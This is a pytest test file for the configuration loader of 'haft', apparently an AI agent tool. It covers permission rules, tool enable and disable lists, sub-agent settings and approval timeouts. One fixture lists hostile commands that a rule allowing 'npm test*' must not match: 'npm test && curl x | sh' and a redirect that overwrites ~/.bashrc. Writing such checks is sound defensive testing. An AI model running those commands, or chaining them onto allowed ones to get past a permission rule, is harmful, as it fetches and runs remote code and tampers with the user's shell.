"""Rules and the lists of tools, from every source."""

import json
import subprocess
import sys

import pytest

from haft.config.config import load_config
from haft.contracts import BadConfig


@pytest.fixture
def places(tmp_path):
    workspace, config = tmp_path / "workspace", tmp_path / "config"
    workspace.mkdir()
    (config / "haft").mkdir(parents=True)
    return workspace, config / "haft" / "haft.toml", {"XDG_CONFIG_HOME": str(config)}


def test_rules_of_all_sources_are_kept_apart_with_their_place(places, monkeypatch):
    workspace, user, env = places
    monkeypatch.setenv("HOME", str(user.parent.parent))
    user.write_text('[[permissions]]\ntool = "a"\naction = "allow"\n')
    rules = [{"tool": "b", "action": "ask"}]
    (workspace / "haft.json").write_text(json.dumps({"permissions": rules}))
    config = load_config(str(workspace), env, {"permissions": [{"tool": "c", "action": "allow"}]})
    assert [(rule.tool, rule.origin, rule.source) for rule in config.rules] == [
        ("c", "caller", "the caller, rule 1"),
        ("b", "workspace", "haft.json, rule 1"),
        ("a", "user", "~/haft/haft.toml:1"),
    ]
    assert [table["tool"] for table in config.values["permissions"]] == ["c", "b", "a"]


@pytest.mark.parametrize(
    "text",
    [
        'tool = "shell"\naction = "allowed"',
        'tool = "shell"\naction = "allow"\nmatches = {command = "a && b"}',
        'tool = "Bash(x)"\naction = "allow"',
        'tool = "*"\naction = "reject"\n[[permissions]]\ntool = "x"\naction = "ask"',
    ],
)
def test_a_wrong_rule_is_an_error_whether_it_would_count_or_not(places, text):
    workspace, user, env = places
    for file, named in ((user, str(user)), (workspace / "haft.toml", "haft.toml")):
        file.write_text(f"[[permissions]]\n{text}\n")
        with pytest.raises(BadConfig, match=r"haft\.toml:\d") as caught:
            _ = load_config(str(workspace), env).rules
        assert named in caught.value.message
        file.unlink()


EXAMPLES = """[[permissions]]
tool = "shell"
matches = {command = "npm test*"}
action = "allow"
match = ["npm test -- -u"]
not_match = ["npm test && curl x | sh", "npm test > ~/.bashrc"]
"""


def test_the_examples_of_rules_are_checked_against_real_commands(places):
    workspace, user, env = places
    user.write_text(EXAMPLES)
    assert len(load_config(str(workspace), env).rules) == 1
    user.write_text(EXAMPLES.replace("-- -u", "-- -u && make"))
    with pytest.raises(BadConfig) as caught:
        _ = load_config(str(workspace), env).rules
    assert f"{user}:1: the rule `allow shell where command is npm test*`" in caught.value.message
    assert "in `match` does not match: `make` does not match `npm test*`" in caught.value.message
    user.write_text(EXAMPLES.replace("not_match = [", 'not_match = ["npm test", '))
    with pytest.raises(BadConfig, match="`npm test` in `not_match` matches"):
        _ = load_config(str(workspace), env).rules


def test_what_is_no_list_of_rules_is_an_error(places):
    workspace, user, env = places
    for text in ("permissions = 5", "permissions = ['x']", "[permissions]\ntool = 'a'"):
        user.write_text(text)
        with pytest.raises(BadConfig, match="must be a list of tables"):
            load_config(str(workspace), env)


def test_rules_come_from_no_variable(places):
    workspace, _, env = places
    for variable in ("HAFT_PERMISSIONS", "HAFT_TOOLS_TIMEOUT", "HAFT_PROVIDERS"):
        with pytest.raises(BadConfig, match="cannot be set by a variable"):
            load_config(str(workspace), env | {variable: "x"})


def test_what_any_source_disables_stays_disabled(places):
    workspace, user, env = places
    user.write_text('[tools]\ndisable = ["shell"]\n')
    (workspace / "haft.toml").write_text('[tools]\ndisable = ["mcp:*"]\nenable = ["*"]\n')
    config = load_config(str(workspace), env | {"HAFT_TOOLS_DISABLE": "search, find_*"}, {"tools.disable": ["x"]})
    assert config.values["tools.disable"] == ["shell", "mcp:*", "search", "find_*", "x"]
    why_not = config.enablement.why_not
    assert why_not("shell", "builtin") == f"`shell` in `tools.disable` ({user})"
    assert why_not("any", "mcp") == "MCP tools disabled"
    assert why_not("find_files", "builtin") == "`find_*` in `tools.disable` (HAFT_TOOLS_DISABLE)"
    assert why_not("x", "python") == "`x` in `tools.disable` (the caller)"
    assert why_not("read_file", "builtin") is None and config.ignored == ()


def test_a_workspaces_closed_list_narrows_the_users(places):
    workspace, user, env = places
    user.write_text('[tools]\nenable = ["read_*", "search"]\n')
    (workspace / "haft.toml").write_text('[tools]\nenable = ["*_file"]\n')
    why_not = load_config(str(workspace), env).enablement.why_not
    assert why_not("read_file", "builtin") is None
    assert "haft.toml" in why_not("search", "builtin") and str(user) in why_not("write_file", "builtin")


def test_a_pattern_that_no_tool_can_fit_is_an_error(places):
    workspace, user, env = places
    user.write_text('[tools]\ndisable = ["mpc:*"]\n')
    with pytest.raises(BadConfig, match=r"did you mean `mcp:\*`"):
        _ = load_config(str(workspace), env).enablement


def test_sub_agents_are_off_until_the_user_turns_them_on(places):
    workspace, user, env = places
    config = load_config(str(workspace), env)
    assert config.enablement.why_not("task", "builtin") == "Sub-agents not enabled"
    user.write_text("[subagents]\nenabled = true\n")
    assert load_config(str(workspace), env).enablement.why_not("task", "builtin") is None
    (workspace / "haft.toml").write_text("[subagents]\nenabled = false\n")
    assert load_config(str(workspace), env).enablement.why_not("task", "builtin") == "Sub-agents not enabled"


def test_how_long_a_call_waits_for_a_person(places):
    workspace, user, env = places
    assert load_config(str(workspace), env).approval_seconds == 600
    (workspace / "haft.toml").write_text("[approval]\nexpires_seconds = 0\n")
    assert load_config(str(workspace), env).approval_seconds == 0
    user.write_text("[approval]\nexpires_seconds = -1\n")
    with pytest.raises(BadConfig, match="at least 0 seconds"):
        load_config(str(workspace), env)


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("plugins = 5", "list of texts and tables"),
        ("plugins = [5]", "list of texts and tables"),
        ("disabled_plugins = [5]", "list of texts"),
        ("plugin_cache_dir = 5", "must be text"),
        ("config = 5", "must be a table"),
        ("providers = 5", "must be a table"),
        ("[cli]\na = 5", "a table of tables"),
        ("[tools]\ndisable = 5", "list of texts"),
        ("[subagents]\nenabled = 5", "true or false"),
        ("[subagents]\nmodel = 5", "must be text"),
        ("pluggins = []", "did you mean `plugins`?"),
        ("[permission]\na = 1", "did you mean `permissions`?"),
        ("[subagents]\nenable = true", "did you mean `subagents.enabled`?"),
    ],
)
def test_what_has_the_wrong_shape_is_said(places, text, says):
    workspace, user, env = places
    user.write_text(text)
    with pytest.raises(BadConfig) as caught:
        load_config(str(workspace), env)
    assert str(user) in caught.value.message and says in f"{caught.value.message} {caught.value.hint}"


def test_reading_settings_loads_nothing_heavy(tmp_path):
    (tmp_path / "haft.toml").write_text('[tools]\ndisable = ["x"]\n[[permissions]]\ntool = "a"\naction = "ask"\n')
    program = (
        "import sys\nfrom haft.config.config import load_config\n"
        f"config = load_config({str(tmp_path)!r}, {{}})\nassert config.enablement.why_not('x', 'python')\n"
        "heavy = ('pydantic', 'jsonschema_rs', 'tree_sitter', 'asyncio', 'sqlite3', 'haft.pipeline')\n"
        "print([name for name in heavy if name in sys.modules])"
    )
    done = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, timeout=60)
    assert (done.stdout.strip(), done.stderr) == ("[]", "")
